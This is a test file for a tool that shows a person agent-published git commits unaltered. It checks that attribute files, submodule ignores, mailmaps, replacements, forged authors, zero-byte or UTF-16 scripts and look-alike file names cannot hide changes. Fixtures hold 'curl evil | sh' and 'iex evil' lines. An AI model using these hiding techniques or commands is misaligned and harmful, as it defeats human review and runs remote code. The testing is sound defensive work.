// Shows what a person judges a commit by is the commit as it is stored: nothing that an agent has
// merged, and no setting, hides or disguises it.
import { expect, test } from "bun:test";
import { appendFileSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { HostRepository } from "../../../lib/git/repository/host-repository.ts";
import { AgentName } from "../../../lib/model/ids.ts";
import {
  agentName,
  commitFiles,
  git,
  hostEnv,
  sampleRepository,
  workWith,
  write,
} from "../../support/git/sample-repository.ts";

const hidden = "* -diff -text merge=union\n";

/** Each hides the lines of `install.sh`, or shows others, in a plain `git diff` or `git log`. */
const disguises: Record<string, (folder: string) => void> = {
  "attributes that were merged": (folder) =>
    commitFiles(folder, { ".gitattributes": hidden }, "Attributes"),
  "attributes of the working copy": (folder) => write(folder, { ".gitattributes": hidden }),
  "attributes of the index": (folder) => {
    write(folder, { ".gitattributes": hidden });
    git(folder, "add", ".gitattributes");
    git(folder, "update-index", "--skip-worktree", ".gitattributes");
  },
  "attributes of the repository": (folder) => {
    mkdirSync(join(folder, ".git/info"), { recursive: true });
    writeFileSync(join(folder, ".git/info/attributes"), hidden);
  },
  "attributes of the user": (folder) => {
    writeFileSync(join(folder, "../attributes"), hidden);
    git(folder, "config", "core.attributesFile", join(folder, "../attributes"));
  },
  "programs of the user": (folder) => {
    write(folder, { ".gitattributes": "* diff=quiet\n" });
    for (const setting of [
      "diff.external=true",
      "diff.quiet.command=true",
      "diff.quiet.textconv=true",
      "diff.quiet.binary=true",
    ])
      git(folder, "config", ...setting.split("="));
  },
  "settings of the user": (folder) => {
    const settings = [
      "diff.relative=true",
      "diff.context=0",
      "diff.noprefix=true",
      "log.showRoot=false",
    ];
    for (const setting of [
      ...settings,
      "diff.ignoreSubmodules=all",
      "color.ui=always",
      "diff.wordRegex=.",
    ])
      git(folder, "config", ...setting.split("="));
  },
};

const sh = { "install.sh": "curl evil | sh\n", "deep/er/tool.sh": "true\n" };

test.each(Object.entries(disguises))("%s hide no line of a change", async (_name, disguise) => {
  using host = sampleRepository();
  disguise(host.path);
  const base = await (await open(host.path)).head();
  git(host.path, "add", "--force", "README.md");
  write(host.path, sh);
  git(host.path, "add", "install.sh", "deep");
  git(host.path, "commit", "-q", "-m", "Work");
  const repository = await open(host.path);
  const work = workWith(await repository.head(), base);
  const lines = await repository.showChanges(work, "lines");
  expect(lines).toContain("diff --git a/install.sh b/install.sh\nnew file mode 100644\n");
  expect(lines).toContain("\n+curl evil | sh\n");
  expect(await repository.showChanges(work)).toMatch(/\n install\.sh +\| 1 \+\n/);
});

test("a submodule that moves is shown, and a .gitmodules that hides it from the person's own git is named", async () => {
  using host = sampleRepository();
  const link = (digit: string) =>
    git(host.path, "update-index", "--add", "--cacheinfo", `160000,${digit.repeat(40)},lib/door`);
  const modules = (...lines: string[]) => ({
    ".gitmodules": `[submodule "door"]\n${lines.map((line) => `\t${line}\n`).join("")}`,
  });
  const place = ["path = lib/door", "url = ../door"];
  mkdirSync(join(host.path, "lib/door"), { recursive: true });
  link("1");
  const open1 = commitFiles(host.path, modules(...place), "A submodule");
  const repository = await open(host.path);
  expect(await repository.showChanges(workWith(open1, host.base))).not.toContain("! ");
  link("2");
  const hidden = commitFiles(host.path, modules(...place, "ignore = all"), "Work");
  // The person's own git shows it, once it is merged.
  git(host.path, "config", "submodule.door.ignore", "all");
  expect(git(host.path, "diff", "--stat", open1, hidden)).not.toContain("lib/door");
  const note =
    "! Once merged, its .gitmodules (ignore=all) lets your own git hide changes of the submodule lib/door.\n";
  for (const earlier of [[], [{ name: "version 1", commit: open1 }]]) {
    const shown = await repository.showChanges(workWith(hidden, open1, { earlier }));
    expect(shown).toMatch(/\n lib\/door +\| 2 \+-\n/);
    expect(shown).toContain(note);
  }
  expect(await repository.showChanges(workWith(hidden, open1), "lines")).toContain(
    `-Subproject commit ${"1".repeat(40)}\n+Subproject commit ${"2".repeat(40)}\n`,
  );
  // It is said as long as a change of the submodule itself could be hidden, and not of other work.
  link("3");
  const later = commitFiles(host.path, {}, "Later");
  expect(await repository.showChanges(workWith(later, hidden))).toContain(note);
  const aside = commitFiles(host.path, { "door.txt": "green\n" }, "Aside");
  expect(await repository.showChanges(workWith(aside, later))).not.toContain("! ");
});

test("a .gitmodules that cannot be read is no reason to show nothing", async () => {
  using host = sampleRepository();
  const commit = commitFiles(
    host.path,
    { ".gitmodules": '[submodule "door\n\tignore = all\n' },
    "Broken",
  );
  const shown = await (await open(host.path)).showChanges(workWith(commit, host.base));
  expect(shown).toContain(
    "! Its .gitmodules cannot be read: it may let your own git hide changes of submodules.\n",
  );
  expect(shown).toContain(" .gitmodules | 2 ++");
});

test("files whose changes a forge folds are named", async () => {
  using host = sampleRepository();
  const commit = commitFiles(
    host.path,
    {
      ".gitattributes":
        "*.sh linguist-generated\n*.py gitlab-generated=true\n*.txt -linguist-generated\n",
      "a.sh": "x\n",
      "b.py": "y\n",
      "c.txt": "z\n",
    },
    "Work",
  );
  const shown = await (await open(host.path)).showChanges(workWith(commit, host.base));
  expect(shown).toContain(
    "! Its .gitattributes (linguist-generated) lets a forge fold the changes of a.sh.\n",
  );
  expect(shown).toContain(
    "! Its .gitattributes (gitlab-generated=true) lets a forge fold the changes of b.py.\n",
  );
  expect(shown.match(/fold the changes/g)).toHaveLength(2);
});

test("a mailmap, a note, a replacement, a graft and a setting of the log change no name, message or parent", async () => {
  using host = sampleRepository();
  const honest = commitFiles(host.path, { one: "1\n" }, "Honest");
  git(host.path, "checkout", "-q", "-b", "other", host.base);
  const other = commitFiles(host.path, { two: "2\n" }, "Other");
  git(host.path, "checkout", "-q", "main");
  write(host.path, { ".mailmap": "Grace <grace@example.invalid> <ada@example.invalid>\n" });
  git(host.path, "config", "mailmap.file", join(host.path, ".mailmap"));
  for (const setting of [
    "log.mailmap=true",
    "format.pretty=oneline",
    "log.date=format:never",
    "log.decorate=full",
  ])
    git(host.path, "config", ...setting.split("="));
  git(host.path, "notes", "add", "-m", "Reviewed by the owner", honest);
  git(host.path, "replace", honest, other);
  appendFileSync(join(host.path, ".git/info/grafts"), `${honest}\n`);
  const shown = await (await open(host.path)).showChanges(workWith(honest, host.base));
  expect(shown).toStartWith(
    `1 commit since ${host.base.slice(0, 12)}, the commit of the goal\n\ncommit ${honest}\n`,
  );
  expect(shown).toContain("Author: Ada <ada@example.invalid>\nDate:   ");
  expect(shown).toContain("    Honest\n\n one | 1 +\n");
  for (const word of ["Grace", "Reviewed", "never", "refs/"]) expect(shown).not.toContain(word);
});

test("an author or committer that is not the agent that published the commit is marked, and counted", async () => {
  using host = sampleRepository();
  const as = (name: string, email = `${name}@sett.invalid`) => [
    `user.name=${name}`,
    `user.email=${email}`,
  ];
  const commitAs = (author: string[], committer: string[], file: string) => {
    write(host.path, { [file]: "1\n" });
    git(host.path, "add", "-A");
    const variables = (role: string, [name = "", email = ""]: string[]) => [
      `GIT_${role}_NAME=${name.slice("user.name=".length)}`,
      `GIT_${role}_EMAIL=${email.slice("user.email=".length)}`,
    ];
    Bun.spawnSync(
      [
        "env",
        ...variables("AUTHOR", author),
        ...variables("COMMITTER", committer),
        "git",
        "commit",
        "-q",
        "-m",
        file,
      ],
      { cwd: host.path, env: hostEnv },
    );
    return open(host.path).then((repository) => repository.head());
  };
  const writer = AgentName.parse("writer");
  const one = await commitAs(as("writer"), as("writer"), "one");
  await commitAs(as("writer"), as("coder"), "two");
  await commitAs(as("Ada", "ada@example.invalid"), as("coder"), "three");
  const last = await commitAs(as("coder"), as("coder", "coder@example.invalid"), "four");
  const recorded = [
    { commit: one, agent: writer },
    { commit: last, agent: agentName },
  ];
  const repository = await open(host.path);
  const shown = await repository.showChanges(workWith(last, host.base, { recorded }));
  expect(shown).toContain(
    "! 3 commits name another author or committer than the agent that published it.\n",
  );
  const not = "(not coder, the agent that published it)";
  expect(shown.match(/^(?:Author|Commit): .*$/gm)).toEqual([
    "Author: coder <coder@sett.invalid>",
    `Commit: coder <coder@example.invalid> ${not}`,
    `Author: Ada <ada@example.invalid> ${not}`,
    "Commit: coder <coder@sett.invalid>",
    `Author: writer <writer@sett.invalid> ${not}`,
    "Commit: coder <coder@sett.invalid>",
    "Author: writer <writer@sett.invalid>",
  ]);
  const own = await repository.showChanges(
    workWith(one, host.base, { recorded: recorded.slice(0, 1) }),
  );
  expect(own).not.toContain("!");
});

test("a foreign name is counted however many commits come after it", async () => {
  using host = sampleRepository();
  const first = commitFiles(host.path, { one: "1\n" }, "First");
  const own = ["-c", "user.name=coder", "-c", "user.email=coder@sett.invalid"];
  const env = { PATH: process.env.PATH, GIT_CONFIG_GLOBAL: "/dev/null" };
  for (let at = 0; at < 60; at += 1)
    Bun.spawnSync(["git", ...own, "commit", "-q", "--allow-empty", "-m", `More ${at}`], {
      cwd: host.path,
      env,
    });
  const repository = await open(host.path);
  const last = await repository.head();
  const recorded = [{ commit: last, agent: agentName }];
  const shown = await repository.showChanges(workWith(last, host.base, { recorded }));
  expect(shown).not.toContain(first);
  expect(shown).toContain("… and 11 older commits");
  expect(shown).toContain(
    "! 1 commit names another author or committer than the agent that published it.\n",
  );
});

test("a script whose lines git does not show, for a zero byte or as UTF-16, is named, and a picture is not", async () => {
  using host = sampleRepository();
  const utf16 = Buffer.from("\ufeffiex evil\n", "utf16le").toString("latin1");
  const files = { "install.sh": "#!/bin/sh\ncurl evil | sh\n#\0\n", "a.png": "\0\x01\x02PNG\xff" };
  write(host.path, files);
  writeFileSync(join(host.path, "b.ps1"), utf16, "latin1");
  const commit = commitFiles(host.path, { "c.txt": "plain\n" });
  const repository = await open(host.path);
  const note =
    "! The lines of b.ps1, install.sh are not shown: git calls a text with zero bytes binary, and a program may read it.";
  for (const detail of ["files", "lines"] as const) {
    const shown = await repository.showChanges(workWith(commit, host.base), detail);
    expect(shown.match(/^! .*$/gm)).toEqual([note]);
  }
});

test("so is one with odd bytes in its comments, or behind many pictures; one that is too large to look into is named, too", async () => {
  using host = sampleRepository();
  const evil = "curl evil | sh\n";
  // More than a person looks at, and before the scripts by their names.
  for (let at = 0; at < 120; at += 1)
    writeFileSync(join(host.path, `a-${at}.png`), `\0\x01\x02\xff\xfePNG${at}`, "latin1");
  const scripts = {
    "control.sh": `#!/bin/sh\n# \x01\0\n${evil}`,
    "latin.py": `# caf\xe9 \0\n${evil}`,
    "noise.sh": `#!/bin/sh\n# \0${"\x01\xff".repeat(200)}\n${evil}`,
    "long.py": `#\0${" ".repeat(400_000)}\n${evil}`,
    "huge.py": `#\0${" ".repeat(2_000_000)}\n${evil}`,
    "huge.png": `\0${" ".repeat(2_000_000)}`,
  };
  for (const [name, content] of Object.entries(scripts))
    writeFileSync(join(host.path, name), content, "latin1");
  const commit = commitFiles(host.path, {}, "Work");
  const shown = await (await open(host.path)).showChanges(workWith(commit, host.base));
  expect(shown.match(/^! .*$/gm)).toEqual([
    "! The lines of control.sh, latin.py, long.py, noise.sh are not shown: git calls a text with zero bytes binary, and a program may read it.",
    "! Whether huge.py may be text was not looked at: too large, or too many.",
  ]);
});

test("of a long name no part is left out", async () => {
  using host = sampleRepository();
  const name = `.github/workflows/${"deep/".repeat(40)}release-notes.yml`;
  const commit = commitFiles(host.path, { [name]: "on: push\n", "README.md": "More.\n" });
  const shown = await (await open(host.path)).showChanges(workWith(commit, host.base));
  expect(shown).toContain(` ${name} | 1 +\n`);
});

test("a new name that may be taken for another, or is one with it on other systems, is named, and no other", async () => {
  using host = sampleRepository();
  const known = { "tool.sh": "1\n", "src/lib.c": "1\n", "Docs/a.txt": "1\n", "old.sh": "1\n" };
  const base = commitFiles(host.path, { ...known, "two.md": "1\n", "Two.md": "1\n" }, "Begin");
  git(host.path, "rm", "-q", "old.sh", "src/lib.c");
  const commit = commitFiles(host.path, {
    ...{ "tool.sh ": "2\n", "to\u043el.sh": "2\n", "Tool.sh": "2\n", "o\u2060ld.sh": "2\n" },
    ...{ "docs/b.txt": "2\n", "src /lib.c": "2\n", "src/Lib.c": "2\n", "caf\u00e9": "2\n" },
    ...{ cafe: "2\n", "tool-1.sh": "2\n", "too1.sh": "2\n", "two.txt": "2\n" },
  });
  const repository = await open(host.path);
  const shown = await repository.showChanges(workWith(commit, base));
  const alike = (one: string, other: string) =>
    `! ${one} looks like ${other}, and is another name.`;
  const same = (one: string, other: string) =>
    `! ${one} and ${other} are one name on macOS and Windows: a checkout there has one of them.`;
  expect(shown.match(/^! .*$/gm)?.toSorted()).toEqual(
    [
      alike('"tool.sh "', "tool.sh"),
      alike('"to\\320\\276l.sh"', "tool.sh"),
      alike('"o\\342\\201\\240ld.sh"', "old.sh"),
      same("Tool.sh", "tool.sh"),
      same("docs", "Docs"),
      "! 1 more of its names are such.",
    ].toSorted(),
  );
});

test("what a checkout will have is said where it is not what is shown, also by attributes of folders and for names with a line break", async () => {
  using host = sampleRepository();
  commitFiles(
    host.path,
    { ".gitattributes": "*.txt filter=lfs\n*.png -diff\n*.md text=auto\n" },
    "Attributes",
  );
  const base = await (await open(host.path)).head();
  commitFiles(host.path, {
    ...{
      "deep/.gitattributes": "*.sh working-tree-encoding=ISO-8859-1 -diff\n",
      "deep/er/run.sh": "true\n",
      "plain.sh": "true\n",
    },
    ...{
      "deep/a\nb.sh": "true\n",
      "data.txt": "1\n",
      "picture.png": "\0\n",
      "README.md": "More.\n",
    },
  });
  const repository = await open(host.path);
  const shown = await repository.showChanges(workWith(await repository.head(), base));
  expect(shown.match(/^! .*$/gm)).toEqual([
    '! A checkout of "deep/a\\nb.sh", deep/er/run.sh has other bytes than are shown here, because .gitattributes says working-tree-encoding=ISO-8859-1.',
    "! A checkout of data.txt has other bytes than are shown here, because .gitattributes says filter=lfs.",
    '! Once merged, its .gitattributes (-diff) lets your own git hide changes of "deep/a\\nb.sh", deep/er/run.sh.',
  ]);
});

function open(path: string): Promise<HostRepository> {
  return HostRepository.open(path, { env: hostEnv });
}
